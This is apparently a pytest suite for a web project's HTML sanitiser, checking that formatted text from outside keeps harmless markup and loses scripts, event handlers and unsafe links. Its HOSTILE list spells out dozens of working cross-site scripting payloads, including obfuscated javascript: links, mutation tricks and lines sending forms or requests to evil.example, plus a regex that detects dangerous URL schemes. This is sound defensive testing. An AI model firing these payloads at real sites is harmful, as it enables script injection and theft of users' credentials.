"""Formatted text from outside keeps its sense and loses everything that could act."""

import re
from html.parser import HTMLParser
from pathlib import Path

import pytest

from consultations.html import ATTRIBUTES, PROTOCOLS, TAGS, sanitise_html

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<math><mtext></p><style><img src=x onerror=alert(1)></style></math>",
    "<math><mi//xlink:href='data:x,<script>alert(4)</script>'>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='data:text/html;base64,PHNjcmlwdD4='></object>",
    "<embed src=evil.swf>",
    "<form action=//evil.example><input name=password></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>body{background:url(//evil.example)}</style>",
    "<p style='background:url(//evil.example)'>x</p>",
    "<p onclick=alert(1)>x</p>",
    "<p id=content class=hidden>x</p>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='&#x6A&#x61vascript:alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href='https://good.example' onclick=alert(1) target=_blank style=x>x</a>",
    "<a href='x' ping='https://evil.example'>x</a>",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<!--><img src=x onerror=alert(1)>-->",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<template><script>alert(1)</script></template>",
    "<textarea></textarea><script>alert(1)</script>",
    "<video><source onerror=alert(1)></video>",
    "<details open ontoggle=alert(1)>x</details>",
    "<h2/onmouseover=alert(1)>x</h2>",
    '"><script>alert(1)</script>',
    "</p><script>alert(1)</script><p>",
    "<p><script",
    "<<script>alert(1);//<</script>",
    "<a href=\"https://x.example/'onmouseover='alert(1)\">x</a>",
]
HOSTILE_LINK = re.compile(
    r"^[\s\x00-\x20]*(?!https?:|mailto:|tel:)[a-z][a-z0-9+.-]*:", re.IGNORECASE
)


class _Found(HTMLParser):
    """What a browser would find in some HTML."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.attributes: list[tuple] = []
        self.comments: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.attributes += [(tag, *attribute) for attribute in attrs]

    def handle_comment(self, data):
        self.comments.append(data)


@pytest.mark.parametrize("html", HOSTILE)
def test_only_the_named_tags_come_through(html):
    found = _Found(sanitise_html(html))

    assert set(found.tags) <= TAGS
    assert not found.comments


@pytest.mark.parametrize("html", HOSTILE)
def test_the_only_attribute_that_comes_through_is_a_harmless_link(html):
    found = _Found(sanitise_html(html))

    assert all(name in ATTRIBUTES.get(tag, []) for tag, name, _value in found.attributes)
    assert not [value for *_names, value in found.attributes if HOSTILE_LINK.match(value)]


@pytest.mark.parametrize("html", HOSTILE)
def test_cleaning_twice_changes_nothing_more(html):
    once = sanitise_html(html)

    assert sanitise_html(once) == once


@pytest.mark.parametrize(
    "html",
    [
        "<p>One <strong>two</strong> <em>three</em> <b>four</b> <i>five</i><br>six</p>",
        "<h2>Why</h2><h3>Because</h3>",
        "<ul><li>one</li></ul><ol><li>two</li></ol>",
        '<p dir="rtl">نريد</p>'.replace(' dir="rtl"', ""),
        *[f'<a href="{protocol}:somewhere">x</a>' for protocol in sorted(PROTOCOLS)],
        '<a href="/what-changed/">x</a>',
        "Tom &amp; Jerry &lt;3",
    ],
)
def test_plain_formatting_comes_through_whole(html):
    assert sanitise_html(html) == html


def test_bleach_is_used_in_one_place_alone():
    root = Path(__file__).resolve().parents[2]
    ours = [
        path
        for room in ("consultations", "feedback", "governance", "site")
        for path in (root / room).rglob("*.py")
    ]

    users = [
        path for path in ours if re.search(r"^\s*(import|from) bleach", path.read_text(), re.M)
    ]

    assert users == [root / "consultations" / "html.py"]
